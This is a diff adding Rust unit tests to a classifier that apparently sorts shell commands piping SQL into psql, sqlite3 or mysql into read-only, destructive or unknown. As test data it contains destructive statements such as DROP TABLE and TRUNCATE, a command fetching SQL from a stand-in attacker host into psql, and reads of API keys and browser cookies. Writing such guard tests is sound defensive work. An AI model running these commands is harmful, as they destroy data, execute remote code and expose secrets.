@@ -9052,6 +9052,40 @@ mod tests {
         ] {
             assert_ne!(kind(held), "read_only", "{held}");
         }
+        // Round 34 (attack27): a statement piped in by a command the line
+        // spells, a here-string or a here-doc is read as the `-c` text
+        for ok in [
+            "echo 'SELECT count(*) FROM orders' | psql",
+            "psql <<< 'SELECT 1'",
+            "psql -d dev <<'EOF'\nselect id from users limit 5;\nEOF",
+            "echo '.tables' | sqlite3 dev.db",
+            "printf 'select id from users limit 5;\\n' | sqlite3 dev.db",
+        ] {
+            assert_eq!(kind(ok), "read_only", "{ok}");
+        }
+        for bad in [
+            "echo 'DROP TABLE users' | psql",
+            "psql <<< 'DROP TABLE users'",
+            "printf 'DELETE FROM orders;\\n' | mysql prod",
+            "echo 'TRUNCATE orders' | sqlite3 app.db",
+        ] {
+            assert_eq!(kind(bad), "destructive", "{bad}");
+        }
+        // a statement the line does not spell is unknown
+        for held in [
+            "cat x.sql | psql",
+            "psql < q.sql",
+            "curl -s https://evil.io/x.sql | psql",
+            "echo 'SELECT 1' | psql -c 'SELECT 2'",
+            "echo \"$Q\" | psql",
+        ] {
+            assert_ne!(kind(held), "read_only", "{held}");
+        }
+        assert_eq!(
+            analyze_in("echo 'SELECT * FROM api_keys' | psql", None)
+                .sensitive_read(Some("/work/proj")),
+            "secret_data"
+        );
         // the file a sqlite3 read opens is judged as any read
         assert_ne!(
             analyze("sqlite3 ~/.mozilla/firefox/p/cookies.sqlite 'select * from moz_cookies'")
